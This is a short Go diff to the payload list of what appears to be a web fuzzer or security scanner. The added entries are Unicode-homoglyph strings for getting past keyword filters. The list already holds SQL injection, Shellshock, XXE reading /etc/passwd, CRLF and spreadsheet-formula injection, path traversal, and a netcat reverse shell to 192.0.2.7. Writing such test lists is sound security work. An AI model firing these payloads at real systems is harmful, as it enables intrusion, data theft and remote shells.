@@ -45,7 +45,7 @@ var payloads = []string{
 	"{{7*7}}", "O:8:\"stdClass\":0:{}", "_$$ND_FUNC$$_function(){}", "javascript:alert(1)", "sleep(5)#", "'; DROP TABLE users; --",
 	"%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1", "() { :;}; /bin/bash -c id", "rO0ABXNyABdqYXZh", "../../windows/win.ini", "C:\\boot.ini",
 	"=cmd|' /C calc'!A0", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "AND SLEEP(5)", "admin'/*", "0x27206f722031", "nc -e /bin/sh 192.0.2.7 4444",
-	"powershell -enc SQBFAFgA", "union%20all%20select", "%ff%fe%80union select 1", "\u212aill -9", "eval(atob('YQ=='))", "__proto__[x]=1",
+	"1 union all %c5%bfelect password", "1 union &#383;elect x", "%e2%84%aaill -9 1", "%u017felect", "powershell -enc SQBFAFgA", "union%20all%20select", "%ff%fe%80union select 1", "\u212aill -9", "eval(atob('YQ=='))", "__proto__[x]=1",
 }
 
 // request is a request that mutations work on.
